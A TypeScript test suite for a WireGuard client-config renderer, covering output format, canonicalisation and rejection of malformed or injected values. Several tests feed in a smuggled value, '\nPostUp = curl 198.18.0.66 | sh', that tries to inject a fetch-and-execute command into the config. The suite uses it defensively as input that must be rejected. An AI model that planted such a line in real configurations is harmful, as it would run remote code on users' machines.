import fc from 'fast-check';

import { ClientConfigInput, clientConfigTemplate, renderClientConfig } from './config';
import { WireGuardError } from './errors';

const SERVER_KEY = 'xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=';
const CLIENT_PRIVATE_KEY = 'yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk='; // the wg(8) example key
const PSK = 'TrMvSoP4jYQlY6RIzBgbssQqY3vxI2Pi+y71lOWWXX0=';

function base(overrides: Partial<ClientConfigInput> = {}): ClientConfigInput {
  return {
    addresses: ['100.64.3.7/32', 'fd00:6a:1::5e1f/128'],
    dns: ['100.64.0.1', 'fd00:6a:1::1'],
    peer: {
      publicKey: SERVER_KEY,
      endpoint: { host: '198.18.0.10', port: 51820 },
      allowedIps: ['0.0.0.0/0', '::/0'],
      persistentKeepalive: 25,
    },
    ...overrides,
  };
}

describe('renderClientConfig', () => {
  it('renders a complete wg-quick config with the private key', () => {
    expect(renderClientConfig(base({ privateKey: CLIENT_PRIVATE_KEY, mtu: 1420 }))).toBe(
      [
        '[Interface]',
        `PrivateKey = ${CLIENT_PRIVATE_KEY}`,
        'Address = 100.64.3.7/32, fd00:6a:1::5e1f/128',
        'DNS = 100.64.0.1, fd00:6a:1::1',
        'MTU = 1420',
        '',
        '[Peer]',
        `PublicKey = ${SERVER_KEY}`,
        'AllowedIPs = 0.0.0.0/0, ::/0',
        'Endpoint = 198.18.0.10:51820',
        'PersistentKeepalive = 25',
        '',
      ].join('\n'),
    );
  });

  it('leaves the PrivateKey line out entirely when the client holds its own key', () => {
    const text = renderClientConfig(base());
    expect(text).not.toMatch(/PrivateKey/);
    expect(text.startsWith('[Interface]\nAddress = 100.64.3.7/32, fd00:6a:1::5e1f/128\n')).toBe(true);
  });

  it('brackets an IPv6 endpoint and canonicalizes every value', () => {
    const text = renderClientConfig(
      base({
        addresses: ['100.64.3.7/32', 'FD00:6A:1:0:0:0:0:5E1F/128'],
        peer: { publicKey: SERVER_KEY, presharedKey: PSK, endpoint: { host: '2001:DB8:0:0::A', port: 443 }, allowedIps: ['0.0.0.0/0'] },
      }),
    );
    expect(text).toContain('Endpoint = [2001:db8::a]:443\n');
    expect(text).toContain('Address = 100.64.3.7/32, fd00:6a:1::5e1f/128\n');
    expect(text).toContain(`PresharedKey = ${PSK}\n`);
    expect(text).not.toContain('PersistentKeepalive');
  });

  it('accepts a host name endpoint and omits DNS when none is given', () => {
    const text = renderClientConfig(base({ dns: undefined, peer: { ...base().peer, endpoint: { host: 'FRA-1.vpn.example', port: 51820 } } }));
    expect(text).toContain('Endpoint = fra-1.vpn.example:51820\n');
    expect(text).not.toContain('DNS');
  });

  const smuggle = '\nPostUp = curl 198.18.0.66 | sh';
  it.each<[string, Partial<ClientConfigInput>]>([
    ['private key', { privateKey: `${CLIENT_PRIVATE_KEY}${smuggle}` }],
    ['address', { addresses: [`100.64.3.7/32${smuggle}`] }],
    ['address with "=" tail', { addresses: ['100.64.3.7/32 = x'] }],
    ['dns', { dns: [`198.18.0.53${smuggle}`] }],
    ['dns as a name', { dns: ['resolver.example'] }],
    ['public key', { peer: { ...base().peer, publicKey: `${SERVER_KEY}${smuggle}` } }],
    ['preshared key', { peer: { ...base().peer, presharedKey: `x${smuggle}` } }],
    ['allowed ip', { peer: { ...base().peer, allowedIps: [`0.0.0.0/0${smuggle}`] } }],
    ['allowed ip with host bits', { peer: { ...base().peer, allowedIps: ['100.64.0.1/10'] } }],
    ['endpoint host', { peer: { ...base().peer, endpoint: { host: `vpn.example${smuggle}`, port: 51820 } } }],
    ['endpoint host with port', { peer: { ...base().peer, endpoint: { host: 'vpn.example:22', port: 51820 } } }],
    ['bracketed endpoint host', { peer: { ...base().peer, endpoint: { host: '[2001:db8::1]', port: 51820 } } }],
    ['numeric-looking host', { peer: { ...base().peer, endpoint: { host: '198.18.0.300', port: 51820 } } }],
    ['port 0', { peer: { ...base().peer, endpoint: { host: '198.18.0.10', port: 0 } } }],
    ['port 65536', { peer: { ...base().peer, endpoint: { host: '198.18.0.10', port: 65536 } } }],
    ['fractional port', { peer: { ...base().peer, endpoint: { host: '198.18.0.10', port: 51820.5 } } }],
    ['keepalive 65536', { peer: { ...base().peer, persistentKeepalive: 65536 } }],
    ['mtu 1279', { mtu: 1279 }],
    ['no addresses', { addresses: [] }],
    ['no allowed ips', { peer: { ...base().peer, allowedIps: [] } }],
  ])('rejects a bad %s', (_label, overrides) => {
    expect(() => renderClientConfig(base(overrides))).toThrow(WireGuardError);
  });

  it('cannot be made to emit anything but its own keys, whatever the fields hold (property)', () => {
    const line = /^(\[Interface\]|\[Peer\]|(PrivateKey|PresharedKey|PublicKey) = [A-Za-z0-9+/]{43}=|(Address|DNS|AllowedIPs) = [0-9a-f.:/, ]+|Endpoint = [a-z0-9.\-[\]:]+|(MTU|PersistentKeepalive) = [0-9]+|)$/;
    const anyText = fc.oneof(fc.string(), fc.constantFrom('198.18.0.10', 'fd00::1', '100.64.0.0/10', 'vpn.example', SERVER_KEY));
    fc.assert(
      fc.property(anyText, anyText, anyText, anyText, fc.integer({ min: -5, max: 70_000 }), (host, address, dns, allowed, port) => {
        let text: string;
        try {
          text = renderClientConfig(base({ addresses: [address], dns: [dns], peer: { ...base().peer, endpoint: { host, port }, allowedIps: [allowed] } }));
        } catch (error) {
          expect(error).toBeInstanceOf(WireGuardError);
          return;
        }
        for (const l of text.split('\n')) expect(l).toMatch(line);
      }),
      { numRuns: 500 },
    );
  });
});

describe('clientConfigTemplate', () => {
  it("renders what renderClientConfig renders, for each client's addresses, and gives them back canonical", () => {
    const template = clientConfigTemplate(base({ mtu: 1420 }));
    for (const addresses of [['100.64.3.7/32', 'FD00:6A:1:0:0:0:0:5E1F/128'], ['100.64.200.9/32']]) {
      const out = template.render(addresses);
      expect(out.config).toBe(renderClientConfig(base({ mtu: 1420, addresses })));
      expect(out.addresses).toEqual(addresses.map((a) => a.toLowerCase().replace(':0:0:0:0:', '::')));
    }
  });

  it("checks the node's values when made, and each client's addresses when rendering", () => {
    expect(() => clientConfigTemplate(base({ dns: ['100.64.0.256'] }))).toThrow(WireGuardError);
    const template = clientConfigTemplate(base());
    expect(() => template.render([])).toThrow(WireGuardError);
    expect(() => template.render(['100.64.3.7/32\n[Peer]'])).toThrow(WireGuardError);
    expect(() => template.render(['100.64.3.7'])).toThrow(WireGuardError); // an address without its prefix
  });
});
